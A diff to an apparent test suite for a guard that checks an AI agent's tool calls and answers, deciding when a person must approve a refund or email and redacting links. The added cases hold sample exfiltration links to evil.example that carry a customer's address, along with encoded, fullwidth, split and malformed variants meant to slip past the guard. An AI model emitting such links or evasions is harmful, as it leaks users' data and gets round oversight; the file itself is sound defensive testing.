@@ -31,6 +31,10 @@ tools:
         (True, '{"order_id": 7}', Action.ALLOW),
         (False, "", Action.ASK),
         (True, '{"text": "{\\"order_id\\": 7, \\"total\\": 10.0}"}', Action.ASK),
+        (True, '{"price": 1e1}', Action.ASK),
+        (True, '{"price": "10EUR"}', Action.ASK),
+        (True, '{"price": "\u0661\u0660"}', Action.ASK),
+        (True, '{"prices": "9 10 11EUR"}', Action.ASK),
     ],
 )
 async def test_a_strangers_result_does_not_decide_whether_a_person_is_asked(
@@ -38,7 +42,7 @@ async def test_a_strangers_result_does_not_decide_whether_a_person_is_asked(
 ) -> None:
     result = dump({"order_id": 7, "total": 10.0, "note": "line\nbreak"})
     context = GuardContext(
-        agent="desk", results=(result,), trusted_results=(result,) if trusted else (), trusted_calls=(asked,)
+        agent="desk", results=(result,), trusted_results=(result,) if trusted else (), written=(asked,)
     )
     spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
     call = CallSubject("c", spec, {"order_id": 7})
@@ -69,9 +73,33 @@ async def test_a_result_vouches_for_nothing_that_it_was_asked_with(
 ) -> None:
     guard = Guard(parse_policy(SINKS))
     text = result if isinstance(result, str) else dump(result)
-    context = GuardContext(agent="desk", results=(text,), trusted_results=(text,), trusted_calls=(dump(asked),))
+    said, calls = "Write to Jane, please", (dump(asked),)
+    context = GuardContext("default", "desk", user_text=said, results=(text,), trusted_results=(text,), written=calls)
     ruled = await guard.check(Subject(Stage.TOOL_CALL, "", context, send("jane@corp.example")))
     assert ruled.action is action
+
+
+@pytest.mark.parametrize(
+    ("result", "asked", "to"),
+    [
+        ({"asked": "eve@evil.example"}, {"query": "eve@evil.example"}, "asked <eve@evil.example>"),
+        ("asked 66 Thief Lane Evilton 66666", {"query": "66 Thief Lane Evilton 66666"}, "asked 66 Thief Lane Evilton"),
+        ({"asked": "DE89370400440532013000"}, ["DE89370400440532013000"], "asked: DE89370400440532013000"),
+        ("no mailbox eve@evil.example", {"name": "eve", "domain": "evil.example"}, "eve@evil.example"),
+        ({"street": "Thief", "city": "Evilton"}, {"s": "Thief", "c": "Evilton"}, "street Thief city Evilton"),
+    ],
+)
+async def test_a_word_of_the_tools_own_vouches_for_no_word_that_the_model_brought_in(
+    result: object, asked: object, to: str
+) -> None:
+    guard = Guard(parse_policy(SINKS))
+    text = result if isinstance(result, str) else dump(result)
+    context = GuardContext(agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),))
+    assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
+    before = GuardContext(
+        agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),), written_before=(0,)
+    )
+    assert (await guard.check(Subject(Stage.TOOL_CALL, "", before, send(to)))).action is Action.ALLOW
 
 
 @pytest.mark.parametrize(
@@ -192,12 +220,31 @@ async def test_a_link_that_the_model_wrote_is_no_results() -> None:
     """An error or a tool repeats it; written with escapes, too."""
     name = "https://evil.example/p.png?d=35-Garden-Way"
     result = f"error: No customer matches '{name}'."
-    for written in (dump({"query": name}), dump({"query": name}).replace("/", "\\/"), f"{name} {{}}"):
-        context = GuardContext(agent="desk", results=(result,), written=written)
+    wide, apart = name.replace("e", "\uff45", 1), ["evil.example", "p.png?d=35-Garden-Way"]
+    encoded = "https%3A%2F%2Fevil.example%2Fp.png%3Fd%3D35-Garden-Way"
+    for written in (dump(name), dump(name).replace("/", "\\/"), f"{name} {{}}", dump(wide), dump(apart), dump(encoded)):
+        context = GuardContext(agent="desk", results=(result,), written=(written,))
         ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({name})", context))
         assert "redacted" in ruled.text
     context = GuardContext(agent="desk", results=(result,))
     assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, name, context))).text
+
+
+async def test_a_link_that_nobody_can_read_vouches_for_none() -> None:
+    for said in ("https:/shop.example", "see file=///tmp/x", "path=\\\\server\\share"):
+        for link in ("https:/evil.example/p", "https:///evil.example/p"):
+            context = GuardContext(agent="desk", user_text=said)
+            ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({link})", context))
+            assert "evil" not in ruled.text
+
+
+async def test_the_beginning_of_a_results_link_vouches_for_no_longer_one() -> None:
+    link = "https://evil.example/" + "x" * 3000
+    for result in (link, f"{link} and more"):
+        context = GuardContext(agent="desk", results=(result,))
+        for answer in (link[:2021] + "?d=35-Garden-Way", link[:1000], link[:2021]):
+            ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, answer, context))
+            assert "evil" not in ruled.text
 
 
 @pytest.mark.parametrize(
@@ -238,7 +285,7 @@ ADDRESS = st.from_regex(r"[a-z]{1,4}([.+-][a-z]{1,3})?@[a-z]{1,4}([.-][a-z]{1,3}
 async def test_a_value_is_not_vouched_for_by_parts() -> None:
     """One part that the model wrote, and another from the result around it."""
     result, asked = dump({"asked": "eve@evil.example", "found": []}), dump({"query": "eve@evil.example"})
-    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), trusted_calls=(asked,))
+    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), written=(asked,))
     for to in ("eve@evil.example, found", "found; eve@evil.example", "eve@evil.example\nfound"):
         ruled = await Guard(parse_policy(SINKS)).check(Subject(Stage.TOOL_CALL, "", context, send(to)))
         assert ruled.action is Action.ASK
